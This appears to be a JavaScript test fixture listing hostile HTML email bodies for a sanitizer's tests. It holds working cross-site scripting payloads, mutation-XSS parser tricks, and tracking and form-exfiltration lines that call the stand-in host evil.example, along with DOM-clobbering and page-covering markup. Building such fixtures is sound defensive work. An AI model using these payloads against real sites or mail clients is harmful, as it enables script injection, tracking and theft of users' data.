// Mails that would run, ask, cover or go, written for these tests: each line is the body of one. What they would load is at
// evil.example, what they would run sets `hacked` on the page.
import { existsSync, readFileSync } from "node:fs";
import { resolve } from "node:path";

export const HOSTILE = [
  // Scripts, by element, by event, by address.
  `<script>top.hacked=1</script><SCRIPT SRC=http://evil.example/a.js></SCRIPT><scr<script>ipt>top.hacked=1</script>`,
  `<img src=x onerror=top.hacked=1><img src=x:x onerror\t=\n"top.hacked=1"><image src=x onerror=top.hacked=1><img/src='x'/onerror='top.hacked=1'>`,
  `<svg/onload=top.hacked=1><svg><animate onbegin=top.hacked=1 attributeName=x dur=1s></svg><svg><set onend=top.hacked=1 dur=.01s attributeName=x></svg>`,
  `<svg><a xlink:href="javascript:top.hacked=1"><text y=20>svg link</text></a><animate attributeName=href values="javascript:top.hacked=1" /></svg>`,
  `<a href="javascript:top.hacked=1">a</a><a href="jAvAsCrIpT&colon;top.hacked=1">b</a><a href="java\tscript:top.hacked=1">c</a><a href="&#106;avascript:top.hacked=1">d</a><a href=" &#14; javascript:top.hacked=1">e</a><a href="data:text/html,<script>top.hacked=1</script>">f</a><a href="vbscript:x">g</a>`,
  `<body onload=top.hacked=1 onpageshow=top.hacked=1 onfocus=top.hacked=1 onhashchange=top.hacked=1><p>body events</p>`,
  `<input autofocus onfocus=top.hacked=1><select autofocus onfocus=top.hacked=1></select><textarea autofocus onfocus=top.hacked=1></textarea><div tabindex=1 id=x contenteditable autofocus onfocus=top.hacked=1>x</div>`,
  `<details open ontoggle=top.hacked=1>x</details><marquee onstart=top.hacked=1>x</marquee><video><source onerror=top.hacked=1></video><audio src=x onerror=top.hacked=1><dialog open onclose=top.hacked=1>d</dialog>`,
  `<div style="animation:x" onanimationstart=top.hacked=1>a</div><style>@keyframes x{}</style><p style="transition:1s" ontransitionend=top.hacked=1>t</p>`,
  // What parsers read one way the first time and another the second.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=top.hacked=1&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.hacked=1>`,
  `<svg></p><style><a id="</style><img src=1 onerror=top.hacked=1>">`,
  `<noscript><p title="</noscript><img src=x onerror=top.hacked=1>"></noscript><noembed><img title="</noembed><img src onerror=top.hacked=1>"></noembed>`,
  `<textarea><img title="</textarea><img src=x onerror=top.hacked=1>"></textarea><title><img title="</title><img src=x onerror=top.hacked=1>"></title><xmp><img title="</xmp><img src=x onerror=top.hacked=1>"></xmp>`,
  `<!--[if gte IE 4]><script>top.hacked=1</script><![endif]--><!-- --!><img src=x onerror=top.hacked=1> --><![CDATA[<img src=x onerror=top.hacked=1>]]><?xml <img src=x onerror=top.hacked=1>?>`,
  `<select><template><img src=x onerror=top.hacked=1></template></select><template><script>top.hacked=1</script></template><table><td><svg><desc><img src=x onerror=top.hacked=1></desc></svg></td></table>`,
  `<iframe srcdoc="&lt;script&gt;top.hacked=1&lt;/script&gt;"></iframe><iframe src="javascript:top.hacked=1"></iframe><object data="javascript:top.hacked=1"></object><embed src="data:text/html,<script>top.hacked=1</script>"><frameset onload=top.hacked=1><frame src="javascript:top.hacked=1"></frameset>`,
  // What asks somebody else: that is how senders learn who read a mail, when, and where.
  `<img src="http://evil.example/p.gif" width=1 height=1><img src="//evil.example/p"><img src="https:evil.example/p"><img srcset="http://evil.example/s 1x, //evil.example/t 2x"><picture><source srcset="//evil.example/u"><img></picture><input type=image src="//evil.example/i">`,
  `<div style="background:url(http://evil.example/b)">a</div><div style="background-image:image-set('//evil.example/c' 1x)">b</div><div style="list-style:url(//evil.example/d)">c</div><div style="content:url(//evil.example/e);cursor:url(//evil.example/f),auto;border-image:url(//evil.example/g)">d</div><div style="background:u\\72l(//evil.example/h)">e</div>`,
  `<style>@import '//evil.example/i.css';@font-face{font-family:x;src:url(//evil.example/j)}*{font-family:x;background:url(//evil.example/k)}:root{--x:url(//evil.example/l)}input[value^=a]{background:url(//evil.example/m)}</style><p>styles</p><input value=abc>`,
  `<link rel=stylesheet href="//evil.example/n"><link rel=preload as=image href="//evil.example/o"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="//evil.example"><link rel=icon href="//evil.example/q"><link rel=prerender href="//evil.example/r">`,
  `<video poster="//evil.example/v" src="//evil.example/w" autoplay></video><audio autoplay src="//evil.example/x"></audio><track src="//evil.example/y"><embed src="//evil.example/z"><object data="//evil.example/a"><param name=movie value="//evil.example/b"></object><applet code=x codebase="//evil.example/c"></applet>`,
  `<table background="//evil.example/d"><td background="//evil.example/e">x</td></table><body background="//evil.example/f"><svg><image href="//evil.example/g" /><use href="//evil.example/h#i" /><feImage href="//evil.example/j" /><style>*{fill:url(//evil.example/k)}</style></svg>`,
  `<blockquote cite="//evil.example/l">q</blockquote><q cite="//evil.example/m">r</q><img src=x longdesc="//evil.example/n" usemap="//evil.example/o"><del cite="//evil.example/p">s</del><bgsound src="//evil.example/q"><img lowsrc="//evil.example/r" dynsrc="//evil.example/s">`,
  // What goes somewhere, or sends something.
  `<meta http-equiv=refresh content="0;url=http://evil.example/t"><meta http-equiv="Set-Cookie" content="a=b"><base href="http://evil.example/"><base target=_top><a href="go" target=_top id=go>relative</a>`,
  `<form action="http://evil.example/u" id=f><input name=q value=secret><button formaction="//evil.example/v">press</button><input type=submit formtarget=_top></form><button form=f formaction="//evil.example/w">outside</button><isindex action="//evil.example/x">`,
  `<a href="http://evil.example/y" ping="http://evil.example/z" target=_top>ping</a><area href="http://evil.example/a" shape=default target=_parent><map name=m><area href="javascript:top.hacked=1"></map><img usemap=#m src=y>`,
  // What covers the page, or takes names that scripts rely on.
  `<div style="position:fixed;inset:0;z-index:99999;background:red;width:100vw;height:100vh">cover</div><div style="position:absolute;top:-500px">above</div><div style="margin:-999px;transform:scale(99)">big</div><div style="height:9999999px">tall</div>`,
  `<img name=cookie><form name=body><input name=innerHTML><input name=attributes></form><a id=location href=x>l</a><img id=createElement name=getElementById><form id=documentElement><input name=parentNode></form>`,
  `<p>last of all, \u202etxt.exe\u202c and a plain sentence</p>\0<b>after a zero</b><![endif]><plaintext><script>top.hacked=1</script>`,
];

/** Payloads that others found, where the shared fixtures lie beside the repository; said loudly where they do not. */
export function shared() {
  const path = ["../../../shared", "../../../../shared"].map((folder) => resolve(import.meta.dirname, folder, "fixtures/html/xss.jsonl")).find((one) => existsSync(one));
  if (!path) {
    console.log("SKIPPED: hostile HTML of the shared fixtures in a browser: the fixtures are not here");
    return [];
  }
  return readFileSync(path, "utf8").split("\n").filter(Boolean).map((line) => String(JSON.parse(line).payload));
}
